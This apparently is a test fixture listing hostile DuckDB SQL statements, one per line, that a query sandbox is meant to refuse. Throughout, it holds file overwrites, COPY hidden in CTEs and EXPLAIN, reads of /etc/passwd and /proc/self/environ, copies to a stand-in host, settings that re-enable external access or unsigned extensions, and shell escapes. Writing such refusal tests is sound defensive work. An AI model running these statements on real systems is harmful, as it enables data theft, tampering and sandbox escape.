-- # Hostile statements, one a line, and each must be refused. {file}: the release file, {folder}: its folder, {name}: its name,
-- # {out}: a folder that everybody may write to, {secret}: a file outside.
-- # the release's own file is emptied or written
copy (select 1 where false) to '{file}' (format csv, header false, use_tmp_file false)
copy (select 1 where false) to '{file}' (format csv, header false)
copy (select 1) to '{file}' (format csv, use_tmp_file false)
copy (select 1) to '{file}' (format parquet, use_tmp_file false)
copy (select 1) to '{file}' (format json, use_tmp_file false)
copy (select 1 where false) to '{folder}/../{name}/province.duckdb' (format csv, header false, use_tmp_file false)
copy (select 1 where false) to '/proc/self/fd/3' (format csv, header false, use_tmp_file false)
copy (select 1 where false) to '/dev/fd/4' (format csv, header false, use_tmp_file false)
copy (select 1 where false) to 'file:{file}' (format csv, header false, use_tmp_file false)
copy (select 1 where false) to 'file://{file}' (format csv, header false, use_tmp_file false)
copy (select 1) to '{file}.wal' (format csv)
copy (select 1) to '{folder}/tmp_province.duckdb' (format csv)
copy (select 1) to '{folder}/manifest.json' (format csv)
copy (select 1) to '{folder}/new.duckdb' (format csv)
copy (select 1) to '{folder}' (format csv, partition_by ("1"), overwrite true)
copy indicator.value to '{file}' (format csv, use_tmp_file false)
attach ':memory:' as m (read_write); use m; detach province; copy (select 1 where false) to '{file}' (format csv, header false, use_tmp_file false)
attach ':memory:' as m (read_write); use m; detach province
attach ':memory:' as m
attach '{file}' as mine (read_write)
attach '{file}' as mine
attach '{folder}/mine.duckdb' as mine
attach '{out}/mine.duckdb' as mine
attach if not exists '{out}/mine.duckdb' as mine
attach or replace '{out}/mine.duckdb' as mine
attach 'duckdb:{file}' as mine (read_only false)
attach 'sqlite:{out}/x.sqlite' as mine
attach 'postgres:host=127.0.0.1' as mine
attach 'ducklake:{out}/x.ducklake' as mine
attach 'http://127.0.0.1:8501/x.duckdb' as mine
detach province
detach database if exists province
use memory
use system
use province.indicator
use temp
-- # a writing statement inside a question
with a as (copy (select 1) to '{out}/leak.csv') select * from a
with a as (copy (select 1 where false) to '{file}' (format csv, header false, use_tmp_file false)) select 1
with a as (copy indicator.value to '{out}/leak.parquet' (format parquet)) select * from a
with a as materialized (copy (select 1) to '{out}/leak.csv') select * from a
with b as (select 1), a as (copy (from b) to '{out}/leak.csv') select * from b
with a as (insert into plan.target select * from plan.target returning *) select * from a
with a as (update plan.target set owner = 'x' returning *) select * from a
with a as (delete from plan.target returning *) select * from a
with a as (truncate plan.target) select 1
with a as (insert into plan.target select * from plan.target returning *) select count(*) from a
with recursive a as (copy (select 1) to '{out}/leak.csv') select * from a
with a as (with b as (copy (select 1) to '{out}/leak.csv') select * from b) select * from a
select * from (with a as (copy (select 1) to '{out}/leak.csv') select * from a)
select (with a as (copy (select 1) to '{out}/leak.csv') select count(*) from a)
select exists (with a as (delete from plan.target returning *) select * from a)
select 1 where 1 in (with a as (copy (select 1) to '{out}/leak.csv') select * from a)
select 1 union all (with a as (copy (select 1) to '{out}/leak.csv') select * from a)
select 1 order by (with a as (copy (select 1) to '{out}/leak.csv') select * from a)
select list_transform([1], lambda x: (with a as (copy (select 1) to '{out}/leak.csv') select * from a))
from (with a as (copy (select 1) to '{out}/leak.csv') from a)
values ((with a as (copy (select 1) to '{out}/leak.csv') select * from a))
describe with a as (copy (select 1) to '{out}/leak.csv') select * from a
summarize with a as (copy (select 1) to '{out}/leak.csv') select * from a
explain with a as (copy (select 1) to '{out}/leak.csv') select * from a
explain analyze with a as (copy (select 1) to '{out}/leak.csv') select * from a
explain analyze copy (select 1) to '{out}/leak.csv'
explain (analyze) copy (select 1) to '{out}/leak.csv'
explain (analyze, format json) copy (select 1) to '{out}/leak.csv'
/* a */ explain /* b */ analyze /* c */ copy (select 1) to '{out}/leak.csv'
EXPLAIN ANALYZE COPY (SELECT 1) TO '{out}/leak.csv'
explain analyze attach '{out}/mine.duckdb' as mine
explain analyze create table memory.main.x as select 1
explain analyze drop table plan.target
explain analyze set threads = 64
explain copy (select 1) to '{out}/leak.csv'
explain drop table plan.target
explain insert into plan.target select * from plan.target
explain export database '{out}/all'
explain analyze call pragma_version()
pivot (with a as (copy (select 'x' as k, 1 as v) to '{out}/leak.csv') select * from a) on k using sum(v)
with a as (copy (select 'x' as k, 1 as v) to '{out}/leak.csv') pivot a on "Count" using sum("Count")
pivot duckdb_databases() on path using count(*)
pivot duckdb_databases on path using count(*)
pivot "duckdb_databases" on path using count(*)
pivot read_text('{secret}') on content using count(*)
pivot query('select 1 as k') on k using count(*)
select * from (pivot glob('/*') on file using count(*))
-- # several statements
select 1; select 2
select 1; drop table plan.target
select 1; copy (select 1) to '{out}/leak.csv'
copy (select 1) to '{out}/leak.csv'; select 1
select 1;; select 2
select ';'; select 1
begin; select 1; commit
begin transaction read write
start transaction
commit
rollback
abort
-- # tables, views, functions, types, schemas
drop table indicator.value
drop table if exists nowhere
drop schema plan cascade
drop view if exists nowhere
drop type if exists nowhere
drop macro if exists nowhere
insert into plan.target select * from plan.target
insert or replace into plan.target select * from plan.target
insert into plan.target by name select * from plan.target
update plan.target set owner = 'x'
delete from plan.target
delete from plan.target using indicator.value
truncate plan.target
merge into plan.target as t using plan.target as s on true when matched then delete
create table indicator.mine as select 1
create or replace table indicator.value as select 1
create table memory.main.mine as select 1
create temp table mine as select * from indicator.value
create temporary view mine as select 1
create view plan.mine as select 1
create macro mine() as 1
create or replace macro sum(x) as 0
create temp macro count(x) as 0
create function mine() as table select 1
create type mine as enum ('a')
create sequence mine
create schema mine
create index mine on plan.target (owner)
create unique index mine on plan.target (owner)
create trigger mine after insert on plan.target for each row insert into plan.target select * from plan.target
alter table plan.target add column x integer
alter table plan.target rename to mine
alter table plan.target drop column owner
alter view plan.mine rename to other
alter sequence mine owned by plan.target
comment on table plan.target is 'x'
comment on column plan.target.owner is 'x'
create secret s (type s3)
create persistent secret s (type s3)
create or replace temporary secret s (type http)
drop secret s
drop persistent secret if exists s
-- # files are written
copy (select 1) to '{out}/leak.csv'
copy (select 1) to '{out}/leak.parquet' (format parquet)
copy (select 1) to '{out}/leak.json' (format json)
copy (select 1) to '{out}/leak' (format csv, per_thread_output true)
copy (select 1 as a, 2 as b) to '{out}/parts' (format parquet, partition_by (a))
copy (select 1) to '/dev/stdout'
copy (select 1) to '/dev/stderr'
copy (select 1) to '/dev/shm/yibao_leak'
copy (select 1) to '/proc/self/oom_score_adj' (format csv, header false, use_tmp_file false)
copy (select 1) to '/proc/self/comm' (format csv, header false, use_tmp_file false)
copy plan.target to '{out}/leak.csv'
copy plan.target (owner) to '{out}/leak.csv'
copy (select 1) to 's3://bucket/leak.csv'
copy (select 1) to 'http://127.0.0.1:8501/leak'
copy (select 1) to 'https://example.invalid/leak'
copy plan.target from '{out}/in.csv'
copy plan.target from '{secret}'
copy from database province to memory
copy from database province to memory (schema)
export database '{out}/all'
export database '{out}/all' (format parquet)
export database province to '{out}/all'
import database '{out}/all'
import database '{folder}'
checkpoint
force checkpoint
checkpoint province
vacuum
vacuum analyze
vacuum plan.target
analyze
call force_checkpoint()
from checkpoint()
from force_checkpoint()
call enable_logging()
call enable_logging(storage = 'file', storage_config = {'path': '{out}/log'})
from enable_logging()
select * from enable_logging('QueryLog')
from disable_logging()
from truncate_duckdb_logs()
call enable_profiling()
from enable_profiling()
from disable_profiling()
-- # files are read
select * from read_csv('/etc/passwd')
select * from read_csv_auto('/etc/passwd')
select * from read_text('{secret}')
select * from read_blob('/proc/self/environ')
select * from read_text('/proc/self/cmdline')
select * from read_text('/proc/self/maps')
select * from read_text('/proc/1/environ')
select * from read_text(['/etc/passwd', '/etc/group'])
select * from read_json('/etc/passwd')
select * from read_json_auto('{folder}/manifest.json')
select * from read_json_objects('{folder}/manifest.json')
select * from read_json_objects_auto('{folder}/manifest.json')
select * from read_ndjson('{folder}/manifest.json')
select * from read_ndjson_auto('{folder}/manifest.json')
select * from read_ndjson_objects('{folder}/manifest.json')
select * from read_parquet('{folder}/changes.parquet')
select * from parquet_scan('{folder}/changes.parquet')
select * from parquet_metadata('{folder}/changes.parquet')
select * from parquet_schema('{folder}/changes.parquet')
select * from parquet_file_metadata('{folder}/changes.parquet')
select * from parquet_kv_metadata('{folder}/changes.parquet')
select * from parquet_full_metadata('{folder}/changes.parquet')
select * from parquet_page_index('{folder}/changes.parquet')
select * from parquet_bloom_probe('{folder}/changes.parquet', 'a', 1)
select * from read_duckdb('{folder}/statistician.duckdb', table_name = 'value_full')
select * from read_duckdb('{file}')
select * from sniff_csv('/etc/passwd')
select * from sniff_csv('{file}')
select * from glob('/*')
select * from glob('{folder}/*')
select * from glob('{folder}/../../../**')
select * from read_single_csv_file('/etc/passwd')
select * from read_single_json_file('/etc/passwd')
select * from read_single_parquet_file('{folder}/changes.parquet')
select (select content from read_text('{secret}'))
select * from plan.target, read_text('{secret}')
select * from plan.target where owner in (select content from read_text('{secret}'))
select * from (values ('{secret}')) as t (f), lateral (select * from read_text(f))
from READ_TEXT('{secret}')
from "read_text"('{secret}')
from main.read_text('{secret}')
from system.main.read_text('{secret}')
select * from summary(read_text('{secret}'))
explain select * from read_csv('/etc/passwd')
explain analyze select * from read_text('{secret}')
describe select * from read_csv('/etc/passwd')
summarize select * from read_csv('/etc/passwd')
describe from read_parquet('{folder}/changes.parquet')
-- # text that is run as a statement
select * from query('select 1')
select * from query('from read_text(''{secret}'')')
select * from query('with a as (copy (select 1) to ''{out}/leak.csv'') select * from a')
select * from query_table('duckdb_databases')
select * from query_table('{secret}')
select * from query_table(['plan.target', 'duckdb_databases'])
from json_execute_serialized_sql(json_serialize_sql('select 1'))
from json_execute_serialized_sql(json_serialize_sql('select * from read_text(''{secret}'')'))
pragma json_execute_serialized_sql('{}')
prepare q as select 1
prepare q as copy (select 1) to '{out}/leak.csv'
execute q
execute immediate 'select 1'
deallocate q
deallocate all
call query('select 1')
call pragma_version()
call duckdb_databases()
-- # settings, extensions, the machine
set memory_limit = '64GB'
set threads = 64
set enable_external_access = true
set global enable_external_access = true
set session threads = 64
set local threads = 1
set disabled_filesystems = ''
set lock_configuration = false
set allowed_paths = ['/']
set allowed_directories = ['/']
set temp_directory = '{out}'
set secret_directory = '{out}'
set home_directory = '/root'
set extension_directory = '{out}'
set custom_extension_repository = 'http://127.0.0.1'
set allow_unsigned_extensions = true
set search_path = 'memory'
set schema = 'memory.main'
set file_search_path = '/'
set log_query_path = '{out}/log'
set profiling_output = '{out}/profile'
set variable x = 1
set variable x = (select content from read_text('{secret}'))
reset threads
reset global memory_limit
reset variable x
set enable_logging = true
set python_enable_replacements = true
set python_scan_all_frames = true
set allow_parser_override_extension = 'fallback'
install httpfs
install httpfs from community
install '{out}/x.duckdb_extension'
force install httpfs
load httpfs
load parquet_scanner
load '{out}/x.duckdb_extension'
load icu
update extensions
update extensions (httpfs)
pragma enable_profiling
pragma enable_profiling = 'json'
pragma disable_optimizer
pragma enable_verification
pragma memory_limit = '64GB'
pragma threads = 64
pragma database_list
pragma database_size
pragma show_databases
pragma user_agent
pragma platform
pragma version
pragma extension_versions
pragma table_info('plan.target')
pragma storage_info('plan.target')
pragma metadata_info
pragma functions
pragma collations
pragma import_database('{out}/all')
pragma copy_database('province', 'memory')
pragma add_parquet_key('k', '0123456789112345')
pragma enable_checkpoint_on_shutdown
pragma force_checkpoint
from duckdb_databases()
from duckdb_databases
from main.duckdb_databases
from system.main.duckdb_databases
from "DuckDB_Databases"
select path from duckdb_databases where true
summarize duckdb_databases
describe duckdb_databases
from pragma_database_list
from pragma_database_size()
from pragma_user_agent()
from pragma_metadata_info()
from duckdb_settings()
from duckdb_settings
from pg_catalog.pg_settings
from duckdb_extensions()
from duckdb_secrets()
from duckdb_secret_types()
from which_secret('s3://x', 's3')
from duckdb_temporary_files()
from duckdb_external_file_cache()
from duckdb_external_resources()
from duckdb_logs
from duckdb_logs_parsed('QueryLog')
from duckdb_log_contexts()
from duckdb_live_query_metrics()
from duckdb_connection_count()
from duckdb_prepared_statements()
from duckdb_extension_repositories()
from register_external_resource('x')
from create_external_resource('x')
from destroy_external_resource('x')
from add_grammar_extension('x')
from remove_grammar_extension('x')
from python_map_function(1)
from pandas_scan(1)
from arrow_scan(1, 2, 3)
from arrow_scan_dumb(1, 2, 3)
from python_arrow_scan(1)
from seq_scan()
from test_all_types()
from test_vector_types(null::integer)
-- # what tells of the machine, in every place of a question
select 1 limit (select path from duckdb_databases())
select 1 limit 1 offset (select path from duckdb_databases())
select sum(v) filter (where exists (select path from duckdb_databases())) from plan.target
select string_agg(owner, ',' order by (select path from duckdb_databases())) from plan.target
select 1 from plan.target qualify row_number() over (order by (select path from duckdb_databases())) = 1
select 1 from plan.target group by 1 having (select path from duckdb_databases()) = 'x'
select count(*) from plan.target group by (select path from duckdb_databases())
select distinct on ((select path from duckdb_databases())) owner from plan.target
select 1 from plan.target a join plan.target b on a.owner = (select path from duckdb_databases())
select * replace ((select path from duckdb_databases()) as owner) from plan.target
select columns(c -> c = (select path from duckdb_databases())) from plan.target
select columns(lambda c: c = (select path from duckdb_databases())) from plan.target
select [1,2][(select path from duckdb_databases())::int]
select case when (select path from duckdb_databases()) = 'x' then 1 end
select (select path from duckdb_databases()) between 'a' and 'b'
select cast((select path from duckdb_databases()) as int)
select {'a': (select path from duckdb_databases())}
select map {'a': (select path from duckdb_databases())}
select [(select path from duckdb_databases())]
select interval ((select path from duckdb_databases())::int) day
select sum(v) over (order by v rows between ((select path from duckdb_databases())::int) preceding and current row) from plan.target
select 1 from plan.target group by grouping sets (((select path from duckdb_databases())), ())
from plan.target a asof join plan.target b on a.v >= b.v and a.owner = (select path from duckdb_databases())
unpivot (select 1 as a, (select path from duckdb_databases()) as b) on a, b
pivot plan.target on owner in ('a') using max((select path from duckdb_databases()))
pivot plan.target on owner in (select path from duckdb_databases()) using count(*)
pivot plan.target on owner using max((select path from duckdb_databases()))
pivot plan.target on (owner || (select path from duckdb_databases())) using count(*)
from plan.target tablesample reservoir((select path from duckdb_databases()))
select * from plan.target at (timestamp => (select path from duckdb_databases()))
select * from range((select path from duckdb_databases())::int)
select * from unnest((select path from duckdb_databases()))
values ((select path from duckdb_databases()))
select x from (values ((select path from duckdb_databases()))) t(x)
with a(x) as (select path from duckdb_databases()) select * from a
with recursive r as (select 1 n union all select n+1 from r where (select path from duckdb_databases()) <> 'x' and n < 3) select * from r
with recursive r using key (n) as (select 1 n union select n+1 from r where (select path from duckdb_databases()) <> 'x') select * from r
select 1 union (select path from duckdb_databases())
(select path from duckdb_databases()) except select 'x'
select list_transform([1], lambda x: (select path from duckdb_databases()))
select list_reduce(['a'], lambda x, y: (select path from duckdb_databases()))
select [x for x in (select path from duckdb_databases())]
select [x for x in ['a'] if x = (select path from duckdb_databases())]
select * from plan.target positional join (select path from duckdb_databases())
select * from (select path from duckdb_databases()) as t
select * from plan.target, lateral (select path from duckdb_databases())
select 1 in (select path from duckdb_databases())
select 1 = any (select path from duckdb_databases())
select 'x' = all (select path from duckdb_databases())
select not exists (select path from duckdb_databases())
select (select path from duckdb_databases()).x
select (select path from duckdb_databases()) collate nocase
select extract(year from (select path from duckdb_databases())::date)
select position('a' in (select path from duckdb_databases()))
select substring((select path from duckdb_databases()) from 1 for 2)
select trim((select path from duckdb_databases()))
select (select path from duckdb_databases()) is null
select (select path from duckdb_databases()) like 'x'
select coalesce((select path from duckdb_databases()))
select try_cast((select path from duckdb_databases()) as int)
select try((select path from duckdb_databases()))
select row((select path from duckdb_databases()))
select struct_pack(a := (select path from duckdb_databases()))
describe (select path from duckdb_databases())
summarize (select path from duckdb_databases())
select * from (describe (select path from duckdb_databases()))
select * from (summarize (select path from duckdb_databases()))
select * from (show duckdb_databases)
select * from (describe duckdb_databases)
select * from (summarize duckdb_databases)
select * from (from duckdb_databases)
explain (select path from duckdb_databases())
explain analyze (select path from duckdb_databases())
explain (analyze) (select path from duckdb_databases())
from U&"duckdb\005Fdatabases"
pivot U&"duckdb\005Fdatabases" on path using count(*)
pivot (from duckdb_databases) on path using count(*)
pivot plan.target on owner in (from duckdb_databases) using count(*)
select * exclude (owner) from (select *, (select path from duckdb_databases()) as p from plan.target)
select first((select path from duckdb_databases()) order by v) from plan.target
select max(owner) within group (order by (select path from duckdb_databases())) from plan.target
select 1 order by (select path from duckdb_databases()) limit 1
select * from query_table((select path from duckdb_databases()))
from plan.target select (select path from duckdb_databases())
select * from plan.target where owner = (select path from duckdb_databases()) window w as (order by (select path from duckdb_databases()))
select sum(v) over w from plan.target window w as (order by (select path from duckdb_databases()))
select * from generate_series(1, (select path from duckdb_databases())::int)
select * from json_each((select path from duckdb_databases()))
from duckdb_databases as d
from (duckdb_databases)
from duckdb_databases d join duckdb_databases e using (path)
table duckdb_databases
select duckdb_databases from duckdb_databases
-- # nothing at all
-- only a comment
/* only a comment */
;
;;
explain
explain analyze
explain (analyze)
select 1 into outfile '{out}/leak'
do $$ begin end $$
grant all on plan.target to public
listen x
lock table plan.target
\copy plan.target to '{out}/leak.csv'
.shell id
.read {secret}
!id
